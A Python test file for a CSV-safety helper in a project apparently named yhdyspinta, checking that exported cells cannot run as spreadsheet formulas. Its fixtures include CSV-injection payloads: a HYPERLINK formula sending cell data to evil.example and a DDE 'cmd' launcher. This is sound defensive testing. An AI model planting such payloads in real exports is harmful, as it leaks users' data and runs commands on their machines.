"""No CSV of ours carries a formula a spreadsheet would run (OWASP "CSV Injection")."""

from __future__ import annotations

import ast
import csv
import io
import shutil
from pathlib import Path

import pytest

from yhdyspinta.cli import main
from yhdyspinta.csvsafe import formula_safe_writer, safe_cell

ROOT = Path(__file__).parents[2]


@pytest.mark.parametrize(("value", "written"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("-5", "'-5"),  # a number too: see docs/DESIGN.md
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("Kajaani", "Kajaani"),
    ("a=b", "a=b"),
    ("2026-11-28", "2026-11-28"),
    ("", ""),
    (None, ""),
    (0, "0"),
    ("'=already", "'=already"),
])
def test_safe_cell(value, written):
    assert safe_cell(value) == written


def test_writer_neutralises_every_cell_and_still_quotes():
    out = io.StringIO()
    writer = formula_safe_writer(out, ("a", "b"), lineterminator="\n")
    writer.writeheader()
    writer.writerows([{"a": "=1+1", "b": 'say "hi", then @me'}])
    assert out.getvalue() == 'a,b\n\'=1+1,"say ""hi"", then @me"\n'
    assert list(csv.reader(io.StringIO(out.getvalue())))[1] == ["'=1+1", 'say "hi", then @me']


def test_plan_csv_from_a_hostile_definition(tmp_path):
    folder = tmp_path / "definitions"
    shutil.copytree(ROOT / "obligations" / "definitions", folder)
    path = folder / "municipal-budget.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("en: Municipal budget and financial plan",
                                 "en: '=HYPERLINK(\"http://evil.example\",\"budget\")'", 1),
                    encoding="utf-8")
    out, err = io.StringIO(), io.StringIO()
    code = main(["plan", "--definitions", str(folder), "--from", "2026-01-01", "--to",
                 "2026-12-31", "--municipality", "205", "--obligation", "municipal-budget",
                 "--format", "csv", "--lang", "en"], out=out, err=err)
    assert (code, err.getvalue()) == (0, "")
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["name"] for r in rows] == ["'=HYPERLINK(\"http://evil.example\",\"budget\")"]


def test_no_module_writes_csv_but_through_the_helper():
    """csv.writer and csv.DictWriter appear only in yhdyspinta/csvsafe.py."""
    offenders = []
    for folder in ("yhdyspinta", "web", "state", "notify", "flows", "calendars", "obligations"):
        for path in (ROOT / folder).rglob("*.py"):
            if path == ROOT / "yhdyspinta" / "csvsafe.py":
                continue
            for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") \
                        and isinstance(node.value, ast.Name) and node.value.id == "csv":
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
                if isinstance(node, ast.ImportFrom) and node.module == "csv" and any(
                        a.name in ("writer", "DictWriter") for a in node.names):
                    offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == []
